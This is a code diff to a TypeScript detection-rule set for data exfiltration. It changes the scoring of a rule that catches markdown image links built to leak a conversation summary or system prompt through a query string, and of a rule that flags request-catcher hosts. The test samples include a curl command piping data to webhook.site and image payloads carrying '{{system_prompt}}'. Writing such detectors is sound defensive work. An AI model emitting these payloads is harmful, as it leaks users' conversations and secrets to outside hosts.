@@ -122,7 +122,9 @@ export const exfiltrationRules: readonly RuleSpec[] = [
     hits: ["![x](https://c.example/p.png?q=[conversation summary])", "![logo](http://t.example/i?d={{system_prompt}})"],
     misses: ["![build](https://img.shields.io/badge/-stable-lightgreen)", "[docs](https://x.example/?q=1)"],
     confirm: (match) =>
-      /shields\.io|badge|github\.com|\{\{ ?(?:site|page|base|url|asset|config|cookiecutter)/u.test(around(match, 0, 20))
+      /shields\.io|badge|github\.com|\/\/(?:quickchart\.io|image-charts\.com|chart\.googleapis\.com|api\.qrserver\.com|latex\.codecogs\.com|mermaid\.ink|kroki\.io|www\.plantuml\.com|maps\.googleapis\.com)\/|\{\{ ?(?:site|page|base|url|asset|config|cookiecutter)/u.test(
+        around(match, 0, 20),
+      )
         ? 0.2
         : /summary|conversation|prompt|secret|key|history|user|data|password|token|message|email|context|base64|encoded|chat|content/u.test(
               around(match, 0, 10),
@@ -221,12 +223,16 @@ export const exfiltrationRules: readonly RuleSpec[] = [
     why: "Request catchers and throw-away tunnels. Developers test with them, so the name alone is for review.",
     hits: ["curl -d @- https://webhook.site/1234", "post it to abc.oastify.com"],
     misses: ["our webhook site is down", "file.io modules in Java"],
-    confirm: (match) =>
-      /password|secret|token|env\b|key|conversation|history|cookie|id_rsa|cat |base64|-d |--data|curl|send|post|upload|forward|prompt|\$\(/u.test(
-        around(match, 80, 80),
-      )
-        ? 1.35
-        : 0.8,
+    confirm: (match) => {
+      const rest = match.text.slice(match.end, match.end + 120);
+      // A catcher that somebody set up has a name of its own; manuals write none, or one to be filled in.
+      const isOwned = /^[/?][\w/-]{0,60}(?:[\da-f]{6,}|\d{3,}|[?&][\p{L}_]{1,16}=)/u.test(rest);
+      if (/^\/?[\w/-]{0,60}[?&][\p{L}_]{1,16}=[^\s)"']/u.test(rest)) return 1.35;
+      const near = around(match, 80, 80);
+      if (/password|secret|token|env\b|key|conversation|history|cookie|id_rsa|cat |base64|prompt|\$\(/u.test(near))
+        return 1.35;
+      return isOwned && /-d |--data|curl|send|post|upload|forward/u.test(near) ? 1.35 : 0.8;
+    },
   },
   {
     id: "EXF-1070",
